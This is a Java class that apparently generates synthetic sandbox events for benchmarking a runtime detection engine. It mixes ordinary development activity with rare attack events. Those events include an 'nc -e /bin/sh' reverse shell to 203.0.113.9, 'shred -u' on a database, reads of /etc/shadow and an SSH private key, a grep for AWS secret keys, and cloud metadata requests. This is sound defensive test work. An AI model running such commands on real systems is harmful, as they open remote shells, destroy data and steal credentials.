package dev.peregrine.bench.engine;

import static dev.peregrine.collector.event.StandardFields.AGENT_ID;
import static dev.peregrine.collector.event.StandardFields.AGENT_SESSION;
import static dev.peregrine.collector.event.StandardFields.CONTAINER_ID;
import static dev.peregrine.collector.event.StandardFields.CONTAINER_IMAGE_REPOSITORY;
import static dev.peregrine.collector.event.StandardFields.EVT_ARG_FLAGS;
import static dev.peregrine.collector.event.StandardFields.EVT_ARG_REQUEST;
import static dev.peregrine.collector.event.StandardFields.EVT_IS_OPEN_READ;
import static dev.peregrine.collector.event.StandardFields.EVT_IS_OPEN_WRITE;
import static dev.peregrine.collector.event.StandardFields.EVT_RAWRES;
import static dev.peregrine.collector.event.StandardFields.EVT_RES;
import static dev.peregrine.collector.event.StandardFields.EVT_SOURCE;
import static dev.peregrine.collector.event.StandardFields.EVT_TYPE;
import static dev.peregrine.collector.event.StandardFields.FD_CIP;
import static dev.peregrine.collector.event.StandardFields.FD_L4PROTO;
import static dev.peregrine.collector.event.StandardFields.FD_NAME;
import static dev.peregrine.collector.event.StandardFields.FD_NAMERAW;
import static dev.peregrine.collector.event.StandardFields.FD_NUM;
import static dev.peregrine.collector.event.StandardFields.FD_SIP;
import static dev.peregrine.collector.event.StandardFields.FD_SIP_NAME;
import static dev.peregrine.collector.event.StandardFields.FD_SPORT;
import static dev.peregrine.collector.event.StandardFields.FD_TYPE;
import static dev.peregrine.collector.event.StandardFields.FD_TYPECHAR;
import static dev.peregrine.collector.event.StandardFields.HOST_NAME;
import static dev.peregrine.collector.event.StandardFields.HTTP_METHOD;
import static dev.peregrine.collector.event.StandardFields.HTTP_STATUS;
import static dev.peregrine.collector.event.StandardFields.HTTP_URL;
import static dev.peregrine.collector.event.StandardFields.LLM_MODEL;
import static dev.peregrine.collector.event.StandardFields.LLM_TOKENS_IN;
import static dev.peregrine.collector.event.StandardFields.LLM_TOKENS_OUT;
import static dev.peregrine.collector.event.StandardFields.PROC_ARGS;
import static dev.peregrine.collector.event.StandardFields.PROC_CWD;
import static dev.peregrine.collector.event.StandardFields.PROC_EXE;
import static dev.peregrine.collector.event.StandardFields.PROC_NAME;
import static dev.peregrine.collector.event.StandardFields.PROC_PID;
import static dev.peregrine.collector.event.StandardFields.PROC_PPID;
import static dev.peregrine.collector.event.StandardFields.PROC_TTY;
import static dev.peregrine.collector.event.StandardFields.SANDBOX_ID;
import static dev.peregrine.collector.event.StandardFields.TOOL_ACTION;
import static dev.peregrine.collector.event.StandardFields.TOOL_NAME;
import static dev.peregrine.collector.event.StandardFields.TOOL_OUTCOME;
import static dev.peregrine.collector.event.StandardFields.TOOL_RESOURCE;
import static dev.peregrine.collector.event.StandardFields.USER_NAME;
import static dev.peregrine.collector.event.StandardFields.USER_UID;

import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.proctree.ProcessTrees;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A seeded, realistic mix of the events an agent sandbox produces: mostly file opens, process
 * starts and connections of ordinary development work (git, python, pip, node, tests), the
 * agent's own tool and LLM calls, syscalls no rule looks at, and about one event in a hundred
 * that a Falco rule exists for (a shadow or ssh key read, {@code nc -e}, {@code shred}, a ptrace attach, a
 * download into {@code /usr/local/bin}, …).
 * Events pass through a process tree, as in the pipeline, so parent and ancestor fields are set.
 *
 * <p>Proportions: 36% opens, 14% execs, 9% connects, 11% other syscalls, 29% agent events, 1% attacks.
 */
final class EventMix {

    private static final long T0 = 1_795_000_000_000_000_000L;
    private static final String[] READ_FILES = {"/workspace/api/api/orders.py", "/workspace/api/tests/test_orders.py",
            "/usr/lib/python3.11/json/__init__.py", "/etc/ld.so.cache", "/etc/passwd", "/etc/hosts", "/etc/resolv.conf",
            "/proc/self/status", "/home/app/.gitconfig", "/usr/lib/x86_64-linux-gnu/libc.so.6",
            "/workspace/api/node_modules/lodash/index.js", "/etc/nsswitch.conf"};
    private static final String[] WRITE_FILES = {"/workspace/api/api/orders.py", "/tmp/pytest-of-app/x.log",
            "/var/log/app/app.log", "/workspace/api/.git/index", "/home/app/.cache/pip/http/1", "/var/log/syslog"};
    private static final String[][] EXECS = {{"git", "/usr/bin/git", "status"}, {"git", "/usr/bin/git", "diff --stat"},
            {"python3", "/usr/bin/python3", "-m pytest -q"}, {"pip", "/usr/bin/pip", "install requests"},
            {"node", "/usr/bin/node", "index.js"}, {"npm", "/usr/bin/npm", "test"}, {"bash", "/bin/bash", "-c make test"},
            {"sh", "/bin/sh", "-c uname -a"}, {"ls", "/bin/ls", "-la"}, {"cat", "/bin/cat", "README.md"},
            {"grep", "/bin/grep", "-rn TODO src/"}, {"find", "/usr/bin/find", ". -name *.py"},
            {"curl", "/usr/bin/curl", "-s https://pypi.org/simple/requests/"}, {"ssh", "/usr/bin/ssh", "git@github.com"}};
    private static final String[][] CONNECTS = {{"python3", "/usr/bin/python3", "151.101.0.223", "443", "pypi.org"},
            {"git", "/usr/bin/git", "140.82.112.3", "443", "github.com"}, {"ssh", "/usr/bin/ssh", "140.82.112.3", "22", "github.com"},
            {"python3", "/usr/bin/python3", "10.0.3.7", "5432", "db.internal"},
            {"node", "/usr/bin/node", "10.96.0.10", "53", "kube-dns.kube-system.svc.cluster.local"},
            {"curl", "/usr/bin/curl", "104.16.0.35", "443", "registry.npmjs.org"}};
    private static final String[] OTHER_TYPES = {"read", "write", "close", "mmap", "fstat", "futex", "epoll_wait"};

    private final Random random;
    private final List<Event> events = new ArrayList<>();
    private long pid = 1000;

    private EventMix(final long seed) {
        this.random = new Random(seed);
    }

    /** {@code size} events from {@code seed}; the same arguments give the same events. */
    static List<Event> generate(final long seed, final int size) {
        final EventMix mix = new EventMix(seed);
        final ProcessTrees trees = ProcessTrees.withDefaults();
        // The sandbox's long-lived processes, so that later events have ancestors.
        mix.add(mix.os("execve", 1, 0, true).set(PROC_NAME, "tini").set(PROC_EXE, "/sbin/tini").set(PROC_ARGS, "-- python3 agent.py"));
        mix.add(mix.os("execve", 7, 1, true).set(PROC_NAME, "python3").set(PROC_EXE, "/usr/bin/python3").set(PROC_ARGS, "agent.py"));
        mix.add(mix.os("execve", 8, 1, false).set(PROC_NAME, "nginx").set(PROC_EXE, "/usr/sbin/nginx").set(PROC_ARGS, "-g daemon off;"));
        while (mix.events.size() < size) {
            mix.next();
        }
        final List<Event> enriched = new ArrayList<>(size);
        for (final Event event : mix.events.subList(0, size)) {
            enriched.add(trees.enrich(event));
        }
        return enriched;
    }

    private void add(final Event.Builder builder) {
        events.add(builder.build());
    }

    private Event.Builder os(final String type, final long processId, final long parent, final boolean inContainer) {
        final Event.Builder builder = Event.builder().time(T0 + events.size() * 1_000_000L).set(EVT_SOURCE, "syscall")
                .set(EVT_TYPE, type).set(EVT_RES, "SUCCESS").set(HOST_NAME, "node-1").set(PROC_PID, processId)
                .set(USER_NAME, "app").set(USER_UID, 1000L).set(AGENT_ID, "ci-runner").set(AGENT_SESSION, "s-8f2c")
                .set(SANDBOX_ID, "sbx-12");
        if (parent > 0) {
            builder.set(PROC_PPID, parent);
        }
        if (inContainer) {
            builder.set(CONTAINER_ID, "c0ffee01").set(CONTAINER_IMAGE_REPOSITORY, "docker.io/library/python");
        } else {
            builder.set(CONTAINER_ID, "host");
        }
        return builder;
    }

    private <T> T pick(final T[] values) {
        return values[random.nextInt(values.length)];
    }

    private void next() {
        final int roll = random.nextInt(100);
        if (roll < 36) {
            open();
        } else if (roll < 50) {
            exec();
        } else if (roll < 59) {
            connect();
        } else if (roll < 70) {
            add(os(pick(OTHER_TYPES), 7, 1, true).set(PROC_NAME, "python3").set(PROC_EXE, "/usr/bin/python3")
                    .set(FD_NUM, (long) random.nextInt(40)));
        } else if (roll < 99) {
            agent();
        } else {
            attack();
        }
    }

    private void open() {
        final boolean write = random.nextInt(4) == 0;
        final String file = write ? pick(WRITE_FILES) : pick(READ_FILES);
        final Event.Builder open = os("openat", 7, 1, true).set(PROC_NAME, "python3").set(PROC_EXE, "/usr/bin/python3")
                .set(FD_NAME, file).set(FD_NAMERAW, file).set(FD_TYPE, "file").set(FD_TYPECHAR, "f")
                .set(FD_NUM, 3L + random.nextInt(30)).set(EVT_IS_OPEN_READ, !write).set(EVT_IS_OPEN_WRITE, write)
                .set(EVT_ARG_FLAGS, write ? "O_WRONLY|O_CREAT|O_APPEND" : "O_RDONLY|O_CLOEXEC");
        add(open);
    }

    private void exec() {
        final String[] command = pick(EXECS);
        final long child = pid++;
        add(os("execve", child, 7, true).set(PROC_NAME, command[0]).set(PROC_EXE, command[1]).set(PROC_ARGS, command[2])
                .set(PROC_CWD, "/workspace/api").set(PROC_TTY, 0L));
    }

    private void connect() {
        final String[] target = pick(CONNECTS);
        final long processId = pid++;
        add(os("execve", processId, 7, true).set(PROC_NAME, target[0]).set(PROC_EXE, target[1]).set(PROC_ARGS, "")
                .set(PROC_TTY, 0L));
        add(os("connect", processId, 7, true).set(PROC_NAME, target[0]).set(PROC_EXE, target[1]).set(FD_TYPE, "ipv4")
                .set(FD_TYPECHAR, "4").set(FD_L4PROTO, "tcp").set(FD_CIP, "10.244.1.7").set(FD_SIP, target[2])
                .set(FD_SPORT, Long.parseLong(target[3])).set(FD_SIP_NAME, target[4]).set(EVT_RAWRES, 0L)
                .set(FD_NAME, "10.244.1.7:40122->" + target[2] + ":" + target[3]));
    }

    private void agent() {
        final Event.Builder agent = Event.builder().time(T0 + events.size() * 1_000_000L).set(EVT_SOURCE, "agent")
                .set(AGENT_ID, "ci-runner").set(AGENT_SESSION, "s-8f2c").set(SANDBOX_ID, "sbx-12").set(USER_NAME, "alice");
        final int kind = random.nextInt(10);
        if (kind < 6) {
            final boolean denied = random.nextInt(20) == 0;
            agent.set(EVT_TYPE, "tool_call").set(TOOL_NAME, random.nextBoolean() ? "fs" : "shell")
                    .set(TOOL_ACTION, random.nextBoolean() ? "read" : "exec").set(TOOL_RESOURCE, pick(READ_FILES))
                    .set(TOOL_OUTCOME, denied ? "denied" : "allowed").set(EVT_RES, denied ? "EACCES" : "SUCCESS");
        } else if (kind < 9) {
            agent.set(EVT_TYPE, "llm_call").set(LLM_MODEL, "claude-sonnet").set(LLM_TOKENS_IN, 1000L + random.nextInt(5000))
                    .set(LLM_TOKENS_OUT, 100L + random.nextInt(900));
        } else {
            agent.set(EVT_TYPE, "http_request").set(HTTP_METHOD, "GET").set(HTTP_STATUS, 200L)
                    .set(HTTP_URL, random.nextInt(10) == 0 ? "http://169.254.169.254/latest/meta-data/" : "https://pypi.org/simple/requests/");
        }
        add(agent);
    }

    private void attack() {
        final long processId = pid++;
        switch (random.nextInt(8)) {
            case 0 -> add(os("openat", processId, 7, true).set(PROC_NAME, "python3").set(PROC_EXE, "/usr/bin/python3")
                    .set(FD_NAME, "/etc/shadow").set(FD_NAMERAW, "/etc/shadow").set(FD_TYPE, "file").set(FD_TYPECHAR, "f")
                    .set(FD_NUM, 5L).set(EVT_IS_OPEN_READ, true).set(EVT_IS_OPEN_WRITE, false).set(EVT_ARG_FLAGS, "O_RDONLY"));
            case 1 -> add(os("execve", processId, 7, true).set(PROC_NAME, "nc").set(PROC_EXE, "/usr/bin/nc")
                    .set(PROC_ARGS, "-e /bin/sh 203.0.113.9 4444").set(PROC_TTY, 0L));
            case 2 -> add(os("execve", processId, 7, true).set(PROC_NAME, "shred").set(PROC_EXE, "/usr/bin/shred")
                    .set(PROC_ARGS, "-u /workspace/api/db.sqlite").set(PROC_TTY, 0L));
            case 3 -> add(os("ptrace", processId, 7, true).set(PROC_NAME, "gdb").set(PROC_EXE, "/usr/bin/gdb")
                    .set(EVT_ARG_REQUEST, "PTRACE_ATTACH"));
            case 4 -> add(os("execve", processId, 8, false).set(PROC_NAME, "sh").set(PROC_EXE, "/bin/sh")
                    .set(PROC_ARGS, "-c id").set(PROC_TTY, 0L));
            case 5 -> add(os("openat", processId, 7, true).set(PROC_NAME, "python3").set(PROC_EXE, "/usr/bin/python3")
                    .set(FD_NAME, "/home/app/.ssh/id_rsa").set(FD_NAMERAW, "/home/app/.ssh/id_rsa").set(FD_TYPE, "file")
                    .set(FD_TYPECHAR, "f").set(FD_NUM, 6L).set(EVT_IS_OPEN_READ, true).set(EVT_IS_OPEN_WRITE, false)
                    .set(EVT_ARG_FLAGS, "O_RDONLY"));
            case 6 -> add(os("openat", processId, 7, true).set(PROC_NAME, "curl").set(PROC_EXE, "/usr/bin/curl")
                    .set(FD_NAME, "/usr/local/bin/kubectl").set(FD_NAMERAW, "/usr/local/bin/kubectl").set(FD_TYPE, "file")
                    .set(FD_TYPECHAR, "f").set(FD_NUM, 4L).set(EVT_IS_OPEN_READ, false).set(EVT_IS_OPEN_WRITE, true)
                    .set(EVT_ARG_FLAGS, "O_WRONLY|O_CREAT|O_TRUNC"));
            default -> add(os("execve", processId, 7, true).set(PROC_NAME, "grep").set(PROC_EXE, "/bin/grep")
                    .set(PROC_ARGS, "-r aws_secret_access_key /home").set(PROC_TTY, 0L));
        }
    }
}
